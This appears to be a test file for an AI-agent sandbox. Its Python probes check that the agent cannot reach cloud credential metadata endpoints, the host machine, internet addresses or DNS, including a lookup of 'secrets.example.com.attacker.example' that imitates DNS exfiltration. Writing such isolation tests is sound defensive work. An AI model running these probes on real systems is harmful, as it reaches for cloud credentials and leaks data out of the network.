import { expect } from 'vitest';
import { OK, okWith, reporting, type SandboxCase } from '../case.ts';

/** What an agent reaches. */
export const NETWORK: readonly SandboxCase[] = [
  {
    name: 'no endpoint that gives credentials answers',
    agent: reporting(`
import socket
result = []
for host in ('169.254.170.2', '169.254.169.254', 'fd00:ec2::254'):
    try:
        socket.create_connection((host, 80), timeout=2).close()
        result.append(host)
    except OSError: pass
`),
    ends: okWith([]),
    differs: {
      process: {
        here: 'not run: what answers is the matter of this machine',
        why: 'the agent reaches everything that this machine reaches; on a machine of EC2 that is its metadata service',
      },
    },
  },
  {
    name: 'the machine that runs the sandbox is not reached',
    agent: ({ listener }) =>
      reporting(`
import socket, struct
candidates = set(${JSON.stringify(listener.addresses)})
for line in open('/proc/net/route').read().splitlines()[1:]:
    fields = line.split()
    for number in (fields[1], fields[2]):
        address = socket.inet_ntoa(struct.pack('<L', int(number, 16)))
        if address != '0.0.0.0': candidates.update((address, address.rsplit('.', 1)[0] + '.1'))
for name in ('host.docker.internal', 'gateway.docker.internal'):
    try: candidates.add(socket.gethostbyname(name))
    except OSError: pass
result = []
for address in sorted(candidates):
    try:
        with socket.create_connection((address, ${listener.port}), timeout=1) as connection:
            if connection.recv(5) == b'hello': result.append(address)
    except OSError: pass
`),
    ends: okWith([]),
    differs: {
      process: {
        here: 'it is reached',
        why: 'the agent is on the network of this machine',
        ends: { ...OK, holds: (after) => expect(after.output).not.toEqual([]) },
      },
    },
  },
  {
    name: 'no name is resolved, and no address of the internet is reached',
    agent: reporting(`
import socket
result = []
for host in ('1.1.1.1', '8.8.8.8', '93.184.215.14'):
    for port in (53, 80, 443):
        try:
            socket.create_connection((host, port), timeout=1).close()
            result.append(f'{host}:{port}')
        except OSError: pass
for name in ('example.com', 'secrets.example.com.attacker.example'):
    try: result.append(socket.gethostbyname(name))
    except OSError: pass
try:
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.settimeout(1)
    query.sendto(bytes.fromhex('0001010000010000000000000765786d61706c6503636f6d0000010001'), ('8.8.8.8', 53))
    query.recv(512)
    result.append('DNS over UDP')
except OSError: pass
`),
    ends: okWith([]),
    differs: {
      process: {
        here: 'not run: what is reached is the matter of this machine',
        why: 'the agent is on the network of this machine',
      },
    },
  },
  {
    name: 'a server of the agent is its own matter, and ends with it',
    agent: reporting(`
import socket
server = socket.create_server(('127.0.0.1', 0))
client = socket.create_connection(server.getsockname())
connection, _ = server.accept()
connection.send(b'hello')
result = client.recv(5).decode()
`),
    ends: okWith('hello'),
  },
];
